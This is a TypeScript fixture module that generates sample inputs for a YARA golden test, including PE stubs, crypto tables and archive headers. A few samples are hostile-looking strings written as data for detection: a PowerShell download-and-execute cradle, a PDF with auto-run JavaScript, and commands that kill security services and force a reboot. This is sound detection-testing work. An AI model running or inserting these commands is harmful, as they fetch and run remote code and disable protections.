/**
 * Inputs of the yara golden test: small archives made with real tools and committed under
 * `inputs/`, plus payloads built here, deterministically (crypto constant tables, XOR-ed PE stubs,
 * base64 text, magic headers). `regen_expected.ts` runs Debian's `yara` on the same bytes.
 *
 * @module
 */

const encoder = new TextEncoder();

/** The committed inputs, by file name. */
export const COMMITTED = [
  "hello.zip",
  "hello.txt.gz",
  "hello.txt.bz2",
  "hello.txt.xz",
  "hello.7z",
  "hello.tar",
  "hello.a",
  "hello.deb",
];

function concat(...parts: (Uint8Array | string)[]): Uint8Array {
  const bytes = parts.map((p) => typeof p === "string" ? encoder.encode(p) : p);
  const out = new Uint8Array(bytes.reduce((n, b) => n + b.length, 0));
  let at = 0;
  for (const b of bytes) {
    out.set(b, at);
    at += b.length;
  }
  return out;
}

function u32le(values: number[]): Uint8Array {
  const out = new Uint8Array(values.length * 4);
  const view = new DataView(out.buffer);
  values.forEach((v, i) => view.setUint32(i * 4, v >>> 0, true));
  return out;
}

function crc32Table(): number[] {
  return Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
}

function aesSbox(): Uint8Array {
  const sbox = new Uint8Array(256);
  let p = 1;
  let q = 1;
  do {
    p = p ^ ((p << 1) & 0xff) ^ (p & 0x80 ? 0x1b : 0);
    q ^= q << 1;
    q ^= q << 2;
    q ^= q << 4;
    q &= 0xff;
    if (q & 0x80) q ^= 0x09;
    const rot = (x: number, s: number) => ((x << s) | (x >> (8 - s))) & 0xff;
    sbox[p] = q ^ rot(q, 1) ^ rot(q, 2) ^ rot(q, 3) ^ rot(q, 4) ^ 0x63;
  } while (p !== 1);
  sbox[0] = 0x63;
  return sbox;
}

/** A minimal PE-like file: MZ, e_lfanew, the DOS stub text and a PE signature. */
function peStub(): Uint8Array {
  const pe = new Uint8Array(0x100);
  pe.set(encoder.encode("MZ"), 0);
  new DataView(pe.buffer).setUint32(0x3c, 0x80, true);
  pe.set(encoder.encode("This program cannot be run in DOS mode.\r\r\n$"), 0x4e);
  pe.set(encoder.encode("PE\0\0"), 0x80);
  return pe;
}

function xor(bytes: Uint8Array, key: number[]): Uint8Array {
  return bytes.map((b, i) => b ^ key[i % key.length]);
}

const PLAIN_B64 = btoa("stoq base64 sample: ".repeat(12)).replace(/(.{76})/g, "$1\n");

/** The generated inputs, by name. */
export function generatedInputs(): Record<string, Uint8Array> {
  const iso = new Uint8Array(0x8800);
  iso.set(encoder.encode("\x01CD001\x01"), 0x8000);
  return {
    "empty": new Uint8Array(0),
    "crypto_tables.bin": concat(
      "crc32:",
      u32le(crc32Table()),
      "md5:",
      u32le(Array.from({ length: 64 }, (_, i) => Math.floor(Math.abs(Math.sin(i + 1)) * 2 ** 32))),
      "sha1:",
      u32le([0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476, 0xc3d2e1f0]),
      "aes:",
      aesSbox(),
      "b64:ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
      " chacha:expand 32-byte k expand 16-byte k",
    ),
    "pe_stub.exe": peStub(),
    "embedded_pe.bin": concat("junk before the PE: ", peStub()),
    "xor_pe_key15.bin": xor(peStub(), [0x15]),
    "xor_pe_keyAB.bin": concat("junk before ", xor(peStub(), [0x41, 0x42])),
    "base64_text.txt": encoder.encode(PLAIN_B64),
    "base64_pe.txt": encoder.encode(
      btoa(String.fromCharCode(...peStub())).replace(/(.{64})/g, "$1\n"),
    ),
    "hex_digests.txt": encoder.encode(
      "0123456789abcdef".repeat(4) + "\n" + "fedcba9876543210".repeat(4) + "\n",
    ),
    "iso9660.iso": iso,
    "cab.cab": concat("MSCF\0\0\0\0", new Uint8Array(32)),
    "rar4.rar": concat("Rar!\x1a\x07\x00", new Uint8Array(16)),
    "rar5.rar": concat("Rar!\x1a\x07\x01\x00", new Uint8Array(16)),
    "ace.ace": concat("\0\0\0\0\0\0\0**ACE**", new Uint8Array(16)),
    "script.ps1": encoder.encode(
      "PowerShell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/y')\"\n",
    ),
    "doc.pdf": encoder.encode("%PDF-1.4\n1 0 obj << /OpenAction 2 0 R /JS (app.alert(1)) >>\n"),
    "fireeye.txt": encoder.encode(
      "taskkill /F /IM clisvc.exe\ntaskkill /F /IM pasvc.exe\nshutdown -r -t 0\n",
    ),
  };
}

/** Every input, committed and generated, by name. */
export async function goldenInputs(): Promise<Record<string, Uint8Array>> {
  const out: Record<string, Uint8Array> = {};
  for (const name of COMMITTED) {
    out[name] = await Deno.readFile(new URL(`inputs/${name}`, import.meta.url));
  }
  return { ...out, ...generatedInputs() };
}
